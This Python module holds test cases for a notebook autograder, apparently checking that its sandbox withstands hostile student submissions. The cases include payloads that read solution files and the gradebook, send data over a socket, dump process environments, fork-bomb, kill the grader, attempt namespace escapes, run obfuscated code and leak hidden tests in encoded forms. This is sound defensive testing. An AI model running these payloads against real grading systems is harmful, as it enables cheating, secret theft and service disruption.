"""Hostile and broken submissions of the tiny assignment, each with the outcome the grader must give.

Each :class:`Case` is one learner: the answers typed into the solution cells (``ANSWERS`` of
:mod:`tests.autograder.course_factory` by default), an optional change to the submitted files, and
what the instructor must then see: the outcome's status, the automatic points (test_square counts
2, test_double 1), and words that the outcome must contain. ``{course}``, ``{port}``, ``{canary}``
and ``{home}`` in answers are replaced by the test's course folder, the port of a local server that
must receive no connection, a file outside the course, and the grader's home folder.
"""

from __future__ import annotations

import base64
import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from tests.autograder.course_factory import ANSWERS, NOTEBOOK

GRADED, MANUAL, FAILED = "graded", "needs manual grading", "failed"

SQUARE = ANSWERS["square"]
DOUBLE = ANSWERS["double"]


@dataclass
class Case:
    student: str
    answers: dict[str, str] = field(default_factory=dict)
    status: str = MANUAL  # the written answer waits for a person in every graded submission
    points: float | None = 3  # automatic points (None: nothing recorded, the submission failed)
    says: tuple[str, ...] = ()  # words the outcome (reason, events, flags) must contain
    honest: bool = False
    change: Callable[[Path, dict], None] | None = None  # edits the submission folder afterwards
    released: bool = False  # hand in the released notebook untouched


# --------------------------------------------------------------------------- changes to the files
def notebook_path(folder: Path) -> Path:
    return folder / f"{NOTEBOOK}.ipynb"


def write_invalid_json(folder: Path, _: dict) -> None:
    notebook_path(folder).write_text('{"cells": [ {"cell_type": "code", "source": "def square(', encoding="utf-8")


def write_future_format(folder: Path, _: dict) -> None:
    data = json.loads(notebook_path(folder).read_text(encoding="utf-8"))
    data["nbformat"], data["nbformat_minor"] = 5, 0
    notebook_path(folder).write_text(json.dumps(data), encoding="utf-8")


def write_format_3(folder: Path, _: dict) -> None:
    notebook = nbformat.read(notebook_path(folder), as_version=4)
    nbformat.write(nbformat.convert(notebook, 3), notebook_path(folder), version=3)


def remove_notebook(folder: Path, _: dict) -> None:
    notebook_path(folder).unlink()
    (folder / "notes.txt").write_text("I could not finish.\n", encoding="utf-8")


def rename_notebook(folder: Path, _: dict) -> None:
    notebook_path(folder).rename(folder / f"{NOTEBOOK} (1).ipynb")


def _edit_cells(folder: Path, edit: Callable[[list], list]) -> None:
    notebook = nbformat.read(notebook_path(folder), as_version=4)
    notebook.cells = edit(notebook.cells)
    nbformat.write(notebook, notebook_path(folder))


def grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def delete_square_test(folder: Path, _: dict) -> None:
    _edit_cells(folder, lambda cells: [cell for cell in cells if grade_id(cell) != "test_square"])


def empty_double_test(folder: Path, _: dict) -> None:
    def edit(cells):
        for cell in cells:
            if grade_id(cell) == "test_double":
                cell.source = "pass  # tests are for other people"
        return cells
    _edit_cells(folder, edit)


def raise_points(folder: Path, _: dict) -> None:
    def edit(cells):
        for cell in cells:
            if grade_id(cell) == "test_square":
                cell.metadata["nbgrader"]["points"] = 100
        return cells
    _edit_cells(folder, edit)


def encode_as_windows_1252(folder: Path, _: dict) -> None:
    def edit(cells):
        cells[0].source += "\n\nRéponse rédigée à Besançon."
        return cells
    _edit_cells(folder, edit)
    text = notebook_path(folder).read_text(encoding="utf-8")
    notebook_path(folder).write_bytes(text.encode("cp1252"))


def add_many_files(folder: Path, _: dict) -> None:
    data = folder / "data"
    data.mkdir()
    for number in range(1500):
        (data / f"row_{number:04d}.csv").write_text(f"{number},{number * 2}\n", encoding="utf-8")


def link_to_solutions(folder: Path, paths: dict) -> None:
    os.symlink(paths["source_notebook"], folder / "answers.txt")


# --------------------------------------------------------------------------- learner code
READ_SECRETS = """
for path in ["../../../source/tiny_01/tiny.ipynb", "{course}/source/tiny_01/tiny.ipynb", "{course}/nbgrader_config.py",
             "{home}/instructor-notes.txt", "answers.txt"]:
    try:
        print(open(path).read())
    except OSError as error:
        print("could not read", path, type(error).__name__)
"""
READ_GRADEBOOK = """
import sqlite3
try:
    rows = sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True).execute("select source from source_cell").fetchall()
    print(rows)
except Exception as error:
    print("no gradebook", type(error).__name__)
"""
OVERWRITE = """
for path in ["{course}/source/tiny_01/tiny.ipynb", "{course}/gradebook.db", "{course}/nbgrader_config.py",
             "{course}/submitted/correct/tiny_01/tiny.ipynb", "../../correct/tiny_01/tiny.ipynb"]:
    try:
        with open(path, "w") as stream:
            stream.write("overwritten")
    except OSError as error:
        print("could not write", path, type(error).__name__)
"""
WRITE_OUTSIDE = """
for path in ["{canary}", "{home}/planted.txt", "../../../../escaped.txt", "/usr/planted.txt"]:
    try:
        with open(path, "w") as stream:
            stream.write("planted")
    except OSError as error:
        print("could not write", path, type(error).__name__)
"""
NETWORK = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
except OSError as error:
    print("no network", error)
"""
SNOOP = """
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                print(pid, name, open(f"/proc/{pid}/" + name, "rb").read()[:2000])
            except OSError:
                pass
"""
FORK_BOMB = """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            os.setsid()  # out of the kernel's process group, which the grader stops at the end
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, "children:", error)
"""
KILL_GRADER = """
import os
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, 9)
    except OSError as error:
        print("could not kill", target, type(error).__name__)
"""
#: Learner code that finds the hidden tests once they are in the kernel (IPython's line cache holds
#: every cell run so far, a hidden test's whole source included, as soon as the cell starts) and
#: writes them out in every form of ``leak_forms``.
FIND_HIDDEN = """
import base64 as _b64, codecs as _codecs, linecache as _lc
def _hidden():
    found = []
    for _name, _entry in list(_lc.cache.items()):
        if len(_entry) > 2 and _entry[2]:
            found += [_line.strip() for _line in _entry[2] if _line.strip().startswith("assert")]
    return found
def _forms(line):
    return [line, _b64.b64encode(line.encode()).decode(), line.encode().hex(), _codecs.encode(line, "rot13"), line[::-1]]
"""
LEAK_PRINTED = FIND_HIDDEN + """
def square(x):
    for _line in _hidden():
        for _form in _forms(_line):
            print(_form)
    return x * x
"""
LEAK_IN_MESSAGE = FIND_HIDDEN + """
def square(x):
    if x == -4:
        raise AssertionError(" | ".join(_form for _line in _hidden() for _form in _forms(_line)))
    return x * x
"""
LEAK_IN_ERROR_NAME = FIND_HIDDEN + """
def square(x):
    if x == -4:
        raise type("E" + _b64.b32encode(" ".join(_hidden()).encode()).decode().rstrip("="), (Exception,), {})()
    return x * x
"""
LEAK_THROUGH_TRACEBACK = """
import traceback as _tb, base64 as _b64
def square(x):
    for _frame in _tb.format_stack():
        print(_frame, _b64.b64encode(_frame.strip().splitlines()[-1].strip().encode()).decode())
    return x * x
"""
LEAK_IN_LATER_CELL = FIND_HIDDEN + """
for _line in _hidden():
    for _form in _forms(_line):
        print(_form)
"""
#: Six processes of 900 MB each, which per-process limits let live: the submission's limit holds them all.
MANY_PROCESSES = """
import os, select, time
alive = []
for _ in range(6):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        hoard = b"x" * (900 * 1024 * 1024)
        os.write(writer, b"1")
        time.sleep(60)
        os._exit(0)
    os.close(writer)
    if select.select([reader], [], [], 3)[0]:
        os.read(reader, 1)  # 1 once its memory is taken, nothing if it was stopped first
    os.close(reader)
    alive.append(pid)
time.sleep(1)
living = sum(1 for pid in alive if os.waitpid(pid, os.WNOHANG) == (0, 0))
print("children alive:", living)
for pid in alive:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
"""
#: The kernel takes 1.15 GB while a program it started holds 0.95 GB: together past the 2 GB of
#: the submission, the kernel (the largest) is stopped by Linux.
KERNEL_PAST_MEMORY = """
import subprocess, sys, time
helper = subprocess.Popen([sys.executable, "-c", "import time; hoard = b'x' * (950 * 1024 * 1024); print(1, flush=True); time.sleep(60)"],
                          stdout=subprocess.PIPE)
helper.stdout.readline()
hoard = b"x" * (1150 * 1024 * 1024)
"""
#: What a learner with a terminal would try from inside: new namespaces, tracing, mounting,
#: the hub's list of users.
ESCAPE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("escape user-namespace", "allowed" if libc.unshare(0x10000000) == 0 else "refused")
print("escape ptrace", "allowed" if libc.ptrace(16, 1, 0, 0) == 0 else "refused")
print("escape mount", "allowed" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "refused")
print("escape users", sorted(line.split(":")[0] for line in open("/etc/passwd")))
"""
#: Errors sent without end, after the output was cut: only a few are kept.
FLOOD_ERRORS = """
def square(x):
    return x * x
for _ in range(3000):
    print("y" * 5000)
for _ in range(20_000):
    try:
        1 / 0
    except ZeroDivisionError:
        get_ipython().showtraceback()
"""
OBFUSCATED = base64.b64encode(b"import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})").decode()


CASES = [
    # Honest learners in the same batch: their scores must not move.
    Case("correct", honest=True),
    Case("hidden_fail", {"double": "def double(x):\n    return x + 2"}, points=2, honest=True),
    Case("visible_fail", {"square": "def square(x):\n    return x + x"}, points=1, honest=True),
    Case("unchanged", released=True, status=GRADED, points=0, honest=True),
    # Broken submissions.
    Case("invalid_json", change=write_invalid_json, status=FAILED, points=None, says=("damaged", "not valid JSON")),
    Case("future_format", change=write_future_format, status=FAILED, points=None, says=("notebook format",)),
    Case("format_3", change=write_format_3, says=("format 3",)),
    Case("missing_notebook", change=remove_notebook, status=GRADED, points=0, says=("missing",)),
    Case("renamed_notebook", change=rename_notebook, says=("tiny (1).ipynb", "renamed")),
    Case("deleted_test", change=delete_square_test, says=("test_square", "deleted", "put back")),
    Case("edited_test", {"double": "def double(x):\n    return x + 2"}, change=empty_double_test, points=2,
         says=("test_double", "edited", "put back")),
    Case("raised_points", change=raise_points, says=("points of test_square",)),
    Case("calls_sys_exit", {"square": SQUARE + "\nimport sys\nsys.exit('done')"}, says=("sys.exit",)),
    Case("calls_os_exit", {"square": SQUARE + "\nimport os\nos._exit(0)"}, points=0, says=("kernel stopped",)),
    Case("kills_own_kernel", {"double": DOUBLE + "\nimport os\nos.kill(os.getpid(), 9)"},
         points=2, says=("kernel stopped",)),
    Case("eats_memory", {"square": "hoard = bytearray(64 * 1024 ** 3)\n" + SQUARE}, points=1),
    Case("floods_output", {"double": "while True:\n    print('x' * 1_000_000)\n" + DOUBLE}, points=2,
         says=("million characters",)),
    Case("floods_then_fails", {"square": "for _ in range(6):\n    print('x' * 1_000_000)\n"
                                         "def square(x):\n    return x + x"}, points=1, says=("million characters",)),
    Case("not_utf8", change=encode_as_windows_1252, says=("not UTF-8",)),
    Case("many_files", change=add_many_files, says=("too many files",)),
    # Hostile submissions.
    Case("reads_solutions", {"square": SQUARE + READ_SECRETS}),
    Case("reads_gradebook", {"square": SQUARE + READ_GRADEBOOK}),
    Case("overwrites_files", {"square": SQUARE + OVERWRITE}),
    Case("writes_outside", {"square": SQUARE + WRITE_OUTSIDE}),
    Case("uses_network", {"square": SQUARE + NETWORK}, says=("network",)),
    Case("snoops_processes", {"square": SQUARE + SNOOP}),
    Case("links_to_solutions", {"square": SQUARE + READ_SECRETS}, change=link_to_solutions, says=("link",)),
    Case("patches_numpy", {"square": "def square(x):\n    return x + x\nimport numpy.testing\n"
                                     "numpy.testing.assert_equal = lambda *args, **kwargs: None"},
         points=0, says=("Held for review", "numpy.testing.assert_equal")),
    Case("silences_tracebacks", {"square": "def square(x):\n    return x + x\n"
                                           "get_ipython().showtraceback = lambda *args, **kwargs: None"},
         points=0, says=("Held for review", "get_ipython")),
    Case("overrides_builtins", {"square": SQUARE + "\nimport builtins\nbuiltins.AssertionError = Warning"},
         points=0, says=("Held for review", "builtins")),
    Case("runs_hidden_code", {"square": SQUARE + f"\nimport base64\nexec(base64.b64decode('{OBFUSCATED}'))"},
         points=0, says=("Held for review", "exec")),
    Case("sleeps_long", {"square": "import time\ntime.sleep(10_000)\n" + SQUARE}, points=1),
    Case("ignores_interrupt", {"square": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
                                         "    pass"}, points=0, says=("Held for review", "ignored the interrupt")),
    Case("fork_bomb", {"square": SQUARE + FORK_BOMB}, says=("fork",)),
    Case("kills_grader", {"square": SQUARE + KILL_GRADER}, says=("kill",)),
    # Hidden tests read from the kernel and written out, plain or encoded (finding 1): the feedback
    # shows none of it, whatever the screen makes of the code.
    Case("leaks_printed", {"square": LEAK_PRINTED}),
    Case("leaks_in_message", {"square": LEAK_IN_MESSAGE}, points=1),
    Case("leaks_in_error_name", {"square": LEAK_IN_ERROR_NAME}, points=1),
    Case("leaks_through_traceback", {"square": LEAK_THROUGH_TRACEBACK}),
    Case("leaks_in_later_cell", {"double": DOUBLE + "\n" + LEAK_IN_LATER_CELL}),
    # Limits of the submission as a whole (finding 2).
    Case("many_processes", {"square": SQUARE + MANY_PROCESSES}, says=("fork",)),
    Case("kernel_past_memory", {"square": SQUARE + KERNEL_PAST_MEMORY}, points=0,
         says=("2048 MB of memory",)),
    # Escapes (finding 7).
    Case("tries_to_escape", {"square": SQUARE + ESCAPE}, points=0, says=("Held for review", "ctypes")),
    Case("floods_errors", {"square": FLOOD_ERRORS}, points=0, says=("Held for review", "million characters")),
]
